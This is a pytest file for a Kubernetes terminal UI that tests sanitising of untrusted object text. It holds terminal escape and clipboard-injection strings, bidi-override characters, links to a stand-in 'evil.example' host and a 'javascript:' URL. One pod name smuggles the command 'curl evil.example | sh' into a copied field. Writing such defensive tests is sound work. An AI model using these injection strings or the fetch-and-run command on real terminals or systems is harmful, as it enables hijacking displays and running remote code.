"""Whatever stands in an object: a terminal only ever gets what can be printed, and never takes it for markup."""

from __future__ import annotations

import base64
from typing import Any

import pytest
from rich.cells import cell_len
from rich.segment import ControlType, Segment
from rich.style import Style
from textual.color import Color
from textual.content import Content
from textual.strip import Strip
from textual.widget import Widget

from kwatch.tui.kit.table.painter import fit
from kwatch.tui.kit.table.rows import Cell, Heading
from kwatch.tui.kit.text.line import Span
from kwatch.tui.kit.widgets.bar import ONLY_PRINTABLE, Part, Words, bar
from kwatch.tui.kit.widgets.prompt import Prompt
from tests.tui.driving import Driver, running
from tests.tui.fakes import PODS, FakeSession, make, pod

HOSTILE = "A\x1b[31;77mB\x1b]52;c;x\x07\x9b2J\x9d0;t\x9c\x7f\x00\r\nC\t\u202eD\u2066E\u200bF\u2028G\ud800H\U000e0041I"
IN_JSON = HOSTILE.replace("\ud800", "")
MARKUP = "[bold]x[/bold] [@click=app.quit]y[/] [/z] [red on"
BLACK = Color.parse("black")


@pytest.mark.parametrize(
    "text",
    [
        Cell(HOSTILE).text,
        Heading("id", HOSTILE).title,
        Span(HOSTILE).text,
        Part(HOSTILE, Style()).text,
        Part("", Style(), short=HOSTILE).short,
        fit(HOSTILE, 100),
    ],
)
def test_what_is_drawn_is_made_safe_where_it_is_made(text: str) -> None:
    assert text.isprintable()
    assert "A␛[31;77mB" in text


def test_a_bar_of_hostile_parts_is_as_wide_as_asked() -> None:
    strip = bar([Part(HOSTILE * 5, Style())], [Part(HOSTILE, Style(), 1, HOSTILE[:9])], 40, Style())
    assert cell_len(strip.text) == 40
    assert strip.text.isprintable()


@pytest.mark.parametrize("text", [HOSTILE, "\x1b", "\x9b31m", "plain", "世\x1b界\u200b", "a\u0301\x00"])
def test_the_last_gate_keeps_a_line_as_wide_as_it_was(text: str) -> None:
    strip = Strip([Segment("<"), Segment(text), Segment(">")])
    (first, found, last) = ONLY_PRINTABLE.apply(list(strip), BLACK)
    assert (first.text, last.text) == ("<", ">")
    assert found.text.isprintable()
    assert cell_len(found.text) == cell_len(text)


def test_the_last_gate_lets_no_link_and_no_control_pass() -> None:
    link = Segment("text", Style(bold=True, link="http://evil.example/"))
    control = Segment("\x1b[2J", None, [(ControlType.CLEAR,)])
    found = ONLY_PRINTABLE.apply([link, control], BLACK)
    assert [segment.text for segment in found] == ["text", ""]
    assert found[0].style is not None and found[0].style.bold
    assert "evil" not in found[0].style.render("text")
    assert not any(segment.control for segment in found)


@pytest.mark.parametrize(
    ("text", "link", "passes"),
    [
        ("https://a.example/b", "https://a.example/b", True),
        ("https://a.exam", "https://a.example/b", True),
        ("ple/b", "https://a.example/b", True),
        ("https://a.example/b", "https://evil.example/", False),
        ("javascript:alert(1)", "javascript:alert(1)", False),
        ("https://a.example/\u202e", "https://a.example/\u202e", False),
        ("https://a.example/\x07", "https://a.example/\x07", False),
    ],
)
def test_a_link_passes_that_leads_to_what_it_shows(text: str, link: str, passes: bool) -> None:
    found = ONLY_PRINTABLE.apply([Segment(text, Style(link=link))], BLACK)[0]
    assert found.style is not None
    assert (found.style.link == link) is passes
    assert "\x07" not in found.style.render(found.text) and "\u202e" not in found.style.render(found.text)


class Careless(Widget):
    """Draws what it is given, as new code might."""

    def render_line(self, y: int) -> Strip:
        return Strip([Segment(f"<{HOSTILE}>", Style(link="http://evil.example/"))])


def drawn(user: Driver) -> list[Segment]:
    return [segment for strip in user.app.screen._compositor.render_strips() for segment in strip]


def assert_printable(user: Driver) -> None:
    found = drawn(user)
    assert len(found) > 10
    assert all(segment.text.isprintable() and not segment.control for segment in found)
    assert not any(segment.style is not None and segment.style.link for segment in found)


async def test_a_widget_that_forgets_to_clean_its_text_does_no_harm() -> None:
    async with running(FakeSession()) as user:
        await user.app.screen.mount(Careless())
        await user.see("<A")
        assert_printable(user)


async def test_toasts_words_and_tooltips_are_no_markup_and_safe() -> None:
    session = FakeSession()
    session.feed(PODS).put(pod("web-1", phase=f"{MARKUP}{IN_JSON}"))
    async with running(session, size=(160, 40)) as user:
        await user.see("1 pod")
        user.app.notify(f"{MARKUP}{HOSTILE}", title=f"{MARKUP}{HOSTILE}", timeout=60)
        await user.app.screen.mount(Words(f"words {MARKUP}{HOSTILE}"))
        await user.see(r"words \[bold\]x")
        session.feed(PODS).put(pod("web-1", version=2))
        await user.see(r"Running")
        line = next(number for number, text in enumerate(user.lines) if "web-1" in text)
        column = user.lines[line].index("Running")
        await user.pilot.hover(offset=(column, line))
        tooltip = user.app.home.table.tooltip
        assert isinstance(tooltip, Content)
        assert "[bold]x[/bold]" in tooltip.plain
        assert tooltip.plain.isprintable() and not tooltip.spans
        assert_printable(user)


async def test_a_name_copied_is_one_line_and_a_text_has_no_escapes(monkeypatch: pytest.MonkeyPatch) -> None:
    written: list[str] = []
    session = FakeSession()
    session.feed(PODS).put(make("Pod", "evil\ncurl evil.example | sh\x1b[2J"))
    async with running(session) as user:
        await user.see("1 pod")
        assert user.app._driver is not None
        monkeypatch.setattr(user.app._driver, "write", written.append)
        await user.press("c", "y")
        await user.see("kind: Pod")
        await user.press("c")
        copies = [text.removeprefix("\x1b]52;c;").removesuffix("\a") for text in written if text.startswith("\x1b]52")]
        name, text = (base64.b64decode(copy).decode() for copy in copies)
        assert name == "evil␊curl evil.example | sh␛[2J"
        assert "\x1b" not in text
        assert text.count("\n") > 5


async def test_completions_and_what_is_typed_are_safe() -> None:
    session = FakeSession()
    labels: dict[str, Any] = {"labels": {"app": IN_JSON}}
    session.feed(PODS).put(make("Pod", "web-1", metadata=labels))
    async with running(session) as user:
        await user.see("1 pod")
        await user.press("slash")
        user.app.screen.query_one(Prompt).input.value = "app="
        await user.see("A␛")
        assert_printable(user)
        await user.press("tab")
        assert_printable(user)
        assert "\x1b" in user.app.screen.query_one(Prompt).input.value, "the filter is the value itself"
